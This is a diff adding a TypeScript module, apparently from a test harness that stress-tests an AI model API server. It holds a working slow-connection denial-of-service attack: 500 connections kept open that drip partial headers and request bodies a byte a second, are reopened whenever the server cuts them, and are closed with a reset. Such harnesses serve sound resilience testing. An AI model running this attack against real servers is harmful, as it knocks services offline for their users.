@@ -1,0 +1,39 @@
+// Connections that take their time: 500 of them, each opened anew as soon as the server cuts it.
+// Source: none; Assumed: ours.
+import { bearer, get, head } from "../../threats/requests.ts"
+import type { Attack, Victim } from "./Attack.ts"
+import { pause, type Tell, Wire } from "./Wire.ts"
+
+/** Connections at once. */
+const connections = 500
+
+/** What is sent at once, and what is sent a byte a second after it. */
+type Slow = (victim: Victim) => { readonly first: string; readonly then: string }
+
+const slows: ReadonlyArray<Slow> = [
+  () => ({ first: "", then: `GET /v1/models HTTP/1.1\r\nhost: a\r\nx-a: ${"a".repeat(1_000)}` }),
+  ({ keys }) => ({
+    first: head("POST /v1/decisions HTTP/1.1", "host: a", bearer(keys.slow), "content-length: 1000"),
+    then: `{"model":"decider-27b","state":"${"a".repeat(900)}`
+  }),
+  () => ({ first: "", then: "" }),
+  () => ({
+    first: get("/v1/models", []),
+    then: `GET /v1/models HTTP/1.1\r\nhost: a\r\nx-b: ${"b".repeat(1_000)}`
+  })
+]
+
+/** Holds one connection of the 500 until the server ends it. */
+const hold = async (victim: Victim, tell: Tell, turn: number) => {
+  const { first, then } = (slows[turn % slows.length] ?? slows[0]!)(victim)
+  const wire = new Wire(victim.port, tell)
+  if (first !== "") await wire.write(first)
+  for (let at = 0; at < 120 && !wire.isClosed; at++) {
+    await pause(1_000)
+    if (at < then.length) await wire.write(then.charAt(at))
+  }
+  wire.leave("RST")
+}
+
+/** Headers and bodies dripped, nothing sent at all, a second request that is never finished. */
+export const slow: Attack = { name: "slow connections", every: 5, most: connections, run: hold }
